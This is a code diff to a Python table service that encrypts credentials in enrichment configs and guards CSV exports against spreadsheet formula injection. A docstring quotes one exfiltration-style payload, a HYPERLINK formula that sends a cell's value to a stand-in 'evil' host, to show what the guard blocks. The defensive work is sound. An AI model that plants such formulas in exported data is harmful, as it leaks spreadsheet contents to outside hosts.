@@ -27,6 +27,8 @@ from enrichment_app.errors import (
     InvalidInputError,
     NotFoundError,
 )
+from enrichment_app.keyring import SecretBox
+from enrichment_app.services.credentials import seal_config
 from enrichment_app.services.values import cap_value, refuse_nul, refuse_nul_in
 
 MAX_NAME_CHARS = 200
@@ -116,8 +118,12 @@ def create_table(
     columns: Sequence[ColumnSpec],
     rows: Iterable[Sequence[str | None]],
     max_cell_chars: int,
+    box: SecretBox | None = None,
 ) -> DataTable:
-    """Create a table with its columns and rows (values given for the input columns, in order)."""
+    """Create a table with its columns and rows (values given for the input columns, in order).
+
+    ``box`` encrypts the credentials in enrichment columns' configs; a config that holds any is
+    refused without one."""
     table = DataTable(name=_clean_name(name, what="Table"))
     session.add(table)
     session.flush()
@@ -131,6 +137,7 @@ def create_table(
                 spec=spec,
                 position=len(created),
                 existing=created,
+                box=box,
             )
         )
     session.flush()
@@ -153,6 +160,7 @@ def _new_column(
     spec: ColumnSpec,
     position: int,
     existing: Sequence[TableColumn],
+    box: SecretBox | None,
 ) -> TableColumn:
     name = _clean_name(spec.name, what="Column")
     if any(c.name.casefold() == name.casefold() for c in existing):
@@ -171,6 +179,7 @@ def _new_column(
                 f"The config refers to {', '.join(repr(m) for m in missing)}, which "
                 f"{'is not a column' if len(missing) == 1 else 'are not columns'} of this table."
             )
+        config = _seal(config, enricher.secret_paths(config), box)
     column = TableColumn(
         table_id=table_id,
         name=name,
@@ -253,12 +262,33 @@ def _insert_row_batch(
     session.execute(sa.insert(Cell), cells)
 
 
-def add_column(session: Session, *, table_id: int, spec: ColumnSpec) -> TableColumn:
-    """Add a column at the right edge, with an empty cell in every row."""
+def _seal(
+    config: dict[str, Any],
+    paths: Sequence[tuple[str, ...]],
+    box: SecretBox | None,
+    previous: Mapping[str, Any] | None = None,
+) -> dict[str, Any]:
+    if not paths:
+        return config
+    if box is None:
+        raise EnricherConfigError("This config holds credentials, and no key to encrypt them.")
+    return seal_config(config, paths, box, previous=previous)
+
+
+def add_column(
+    session: Session, *, table_id: int, spec: ColumnSpec, box: SecretBox | None = None
+) -> TableColumn:
+    """Add a column at the right edge, with an empty cell in every row (``box``: see
+    ``create_table``)."""
     get_table(session=session, table_id=table_id)
     existing = list_columns(session=session, table_id=table_id)
     column = _new_column(
-        session=session, table_id=table_id, spec=spec, position=len(existing), existing=existing
+        session=session,
+        table_id=table_id,
+        spec=spec,
+        position=len(existing),
+        existing=existing,
+        box=box,
     )
     session.flush()
     now = utcnow()
@@ -278,6 +308,33 @@ def add_column(session: Session, *, table_id: int, spec: ColumnSpec) -> TableCol
             ],
         )
     note_change(session, table_id, TableChange.of(SHAPE))
+    return column
+
+
+def update_column_config(
+    session: Session, *, table_id: int, column_id: int, config: Mapping[str, Any], box: SecretBox
+) -> TableColumn:
+    """Replace an enrichment column's config. A credential sent back as ``•••`` (as the page and
+    the API show it) keeps the saved one; any other value replaces it."""
+    column = session.get(TableColumn, column_id)
+    if column is None or column.table_id != table_id:
+        raise NotFoundError(f"Column {column_id} is not in table {table_id}.")
+    if column.kind != ColumnKind.ENRICHMENT:
+        raise InvalidInputError(f"'{column.name}' is an input column; it has no config.")
+    enricher = get_enricher(column.enricher or "")
+    refuse_nul_in(config, where=f"The config of column '{column.name}'")
+    checked = enricher.validate_config(config)
+    earlier = list_columns(session=session, table_id=table_id)
+    known = {c.name for c in earlier if c.position < column.position}
+    missing = sorted(enricher.referenced_columns(checked) - known)
+    if missing:
+        raise EnricherConfigError(
+            f"The config refers to {', '.join(repr(m) for m in missing)}, which "
+            f"{'is not a column' if len(missing) == 1 else 'are not columns'} to the left of "
+            f"'{column.name}'."
+        )
+    column.config = _seal(checked, enricher.secret_paths(checked), box, previous=column.config)
+    session.add(column)
     return column
 
 
@@ -333,8 +390,23 @@ def delete_table(session: Session, *, table_id: int) -> None:
 # --- CSV export ----------------------------------------------------------------------
 
 
-def export_csv(session: Session, *, table_id: int) -> str:
-    """The table as CSV text: a header row, then every row's values (enriched ones included)."""
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+"""What makes a spreadsheet read a cell as a formula (OWASP's CSV injection page)."""
+
+
+def neutralise_formula(value: str) -> str:
+    """``value`` with a leading ``'`` if a spreadsheet would run it as a formula, so that
+    ``=HYPERLINK("https://evil/?"&A2)`` from a page title shows as text when the file is opened."""
+    return "'" + value if value.startswith(FORMULA_TRIGGERS) else value
+
+
+def export_csv(session: Session, *, table_id: int, raw: bool = False) -> str:
+    """The table as CSV text: a header row, then every row's values (enriched ones included).
+
+    By default values that a spreadsheet would run as formulas get a leading ``'``
+    (``neutralise_formula``); ``raw=True`` exports every value as stored, so the file imports
+    back unchanged.
+    """
     get_table(session=session, table_id=table_id)
     columns = list_columns(session=session, table_id=table_id)
     index = {c.id: i for i, c in enumerate(columns)}
@@ -349,10 +421,11 @@ def export_csv(session: Session, *, table_id: int) -> str:
     # Quoting everything in the few rows that need it keeps the file importable as it is:
     # the csv module leaves a lone "\r" unquoted (it then reads as a line break), and a
     # header name holding another delimiter could make the import split the header on it.
-    header = [c.name for c in columns]
+    safe = (lambda v: v) if raw else neutralise_formula
+    header = [safe(c.name) for c in columns]
     (quote_all if any(ch in n for n in header for ch in ";\t\r") else minimal).writerow(header)
     for row in list_rows(session=session, table_id=table_id):
         assert row.id is not None
-        cells = values.get(row.id, [""] * len(columns))
+        cells = [safe(v) for v in values.get(row.id, [""] * len(columns))]
         (quote_all if any("\r" in v for v in cells) else minimal).writerow(cells)
     return out.getvalue()
